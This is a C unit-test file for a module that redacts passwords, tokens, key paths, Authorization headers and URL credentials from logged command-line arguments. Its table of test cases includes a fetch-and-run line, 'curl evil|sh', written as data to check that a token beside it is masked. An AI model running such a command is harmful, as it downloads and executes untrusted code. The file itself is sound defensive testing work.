// SPDX-License-Identifier: Apache-2.0
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "output/redact.h"

static const char *const patterns[] = {
	"--password=*", "--pass?word=*", "*TOKEN=*", "-p*secret=*", "hunter2", "*.key", "*Authorization:*", "*://*:*@*",
};

#define ARGS_MAX 8

struct row {
	const char *in[ARGS_MAX], *out[ARGS_MAX]; /* out empty: nothing to blank */
};

static const struct row rows[] = {
	/* as they are */
	{ { "ls", "-l" }, { 0 } },
	{ { "" }, { 0 } },
	{ { "--password=" }, { 0 } },
	{ { "--passwords=x" }, { 0 } },
	{ { "--password" }, { 0 } },
	{ { "x--password=y" }, { 0 } },
	{ { "hunter22" }, { 0 } },
	{ { "my.keys" }, { 0 } },
	{ { "password", "x" }, { 0 } }, /* no option */
	{ { "sh", "-c", "echo 'it is' fine; ls" }, { 0 } },
	{ { "http://host/a@b:c" }, { 0 } },
	{ { "http://user@host/" }, { 0 } },
	{ { "http://user:@host/" }, { 0 } },
	{ { "git@host:path", "://" }, { 0 } },
	/* values */
	{ { "a", "--password=s3" }, { "a", "--password=***" } },
	{ { "--password=my own secret" }, { "--password=***" } },
	{ { "--PassWord=x" }, { "--PassWord=***" } },
	{ { "--pass-word=x" }, { "--pass-word=***" } },
	{ { "API_TOKEN=a=b" }, { "API_TOKEN=***" } },
	{ { "TOKEN=x", "run" }, { "TOKEN=***", "run" } },
	{ { "-p-the-secret=x" }, { "-p-the-secret=***" } },
	{ { "hunter2", "HUNTER2" }, { "***", "***" } },
	{ { "/etc/my.key" }, { "***" } },
	{ { "-H", "Authorization: Bearer x" }, { "-H", "Authorization:***" } },
	{ { "--password=\x1b\xff\n" }, { "--password=***" } },
	/* the value as the next argument */
	{ { "--password", "s3", "-v" }, { "--password", "***", "-v" } },
	{ { "--api-token", "--s3" }, { "--api-token", "***" } },
	{ { "--password", "", "s3" }, { 0 } },
	{ { "--password", "--password", "x" }, { "--password", "***", "x" } },
	/* inside command lines */
	{ { "sh", "-c", "mysql --password=s3 -e 'select 1'" }, { "sh", "-c", "mysql --password=*** -e 'select 1'" } },
	{ { "sh", "-c", "mysql --password s3; id" }, { "sh", "-c", "mysql --password ***; id" } },
	{ { "sh", "-c", "TOKEN=abc curl evil|sh" }, { "sh", "-c", "TOKEN=*** curl evil|sh" } },
	{ { "bash", "-lc", "TOKEN=\"a b\" x" }, { "bash", "-lc", "TOKEN=*** x" } },
	{ { "sh", "-c", "x '--password=a b' y" }, { "sh", "-c", "x '--password=***' y" } },
	{ { "sh", "-c", "sh -c 'x --password=a'" }, { "sh", "-c", "sh -c 'x --password=***'" } },
	{ { "sh", "-c", "x --password 'a b' y" }, { "sh", "-c", "x --password '***' y" } },
	{ { "sh", "-c", "it's --password=a" }, { "sh", "-c", "it's --password=***" } },
	{ { "sh", "-c", "x --password", "y" }, { 0 } },
	{ { "run --password=a b" }, { "run --password=*** b" } },
	/* URLs */
	{ { "postgres://u:p@h/db" }, { "postgres://u:***@h/db" } },
	{ { "redis://:p@h" }, { "redis://:***@h" } },
	{ { "a=http://u:p&q;r@h:80/x,ftp://v:w@i" }, { "a=http://u:***@h:80/x,ftp://v:***@i" } },
	{ { "http://u:p@q@h/" }, { "http://u:***@h/" } },
	{ { "sh", "-c", "curl http://u:p@h/?token=x" }, { "sh", "-c", "curl http://u:***@h/?token=***" } },
};

static size_t count(const char *const *list)
{
	size_t size = 0;

	while (size < ARGS_MAX && list[size])
		size++;
	return size;
}

static void check_row(const struct redact *redact, const struct row *row)
{
	_cleanup_free_ char **argv = NULL;
	size_t argc = count(row->in), expected = count(row->out);
	int r = redact_args(redact, row->in, argc, &argv);

	assert_int_equal(r, expected > 0);
	if (r == 0) {
		assert_null(argv);
		return;
	}
	assert_int_equal(expected, argc);
	for (size_t i = 0; i < argc; i++)
		assert_string_equal(argv[i], row->out[i]);
	assert_null(argv[argc]);
}

static void test_rows(void **state)
{
	_cleanup_(redact_freep) struct redact *redact = NULL;

	(void)state;
	assert_int_equal(redact_new(patterns, ARRAY_SIZE(patterns), &redact), 0);
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
		check_row(redact, &rows[i]);
}

static void test_without_patterns(void **state)
{
	static const struct row only_urls = { { "--password=x", "ftp://u:p@h" }, { "--password=x", "ftp://u:***@h" } };
	_cleanup_(redact_freep) struct redact *redact = NULL;

	(void)state;
	assert_int_equal(redact_new(NULL, 0, &redact), 0);
	check_row(redact, &only_urls);
}

/* Globs that would take a backtracking matcher years, and quotes in quotes. */
static void test_hostile(void **state)
{
	static const char *const globs[] = { "*a*a*a*a*a*a*a*b=*", "*a*a*a*a*a*a*c" };
	_cleanup_(redact_freep) struct redact *redact = NULL;
	_cleanup_free_ char **argv = NULL;
	char text[8192];
	const char *list[] = { text };

	(void)state;
	assert_int_equal(redact_new(globs, ARRAY_SIZE(globs), &redact), 0);
	memset(text, 'a', sizeof(text) - 1);
	text[sizeof(text) - 1] = '\0';
	assert_int_equal(redact_args(redact, list, 1, &argv), 0);
	for (size_t i = 0; i < sizeof(text) - 1; i++)
		text[i] = "'\" a"[i % 4];
	assert_int_equal(redact_args(redact, list, 1, &argv), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_without_patterns),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
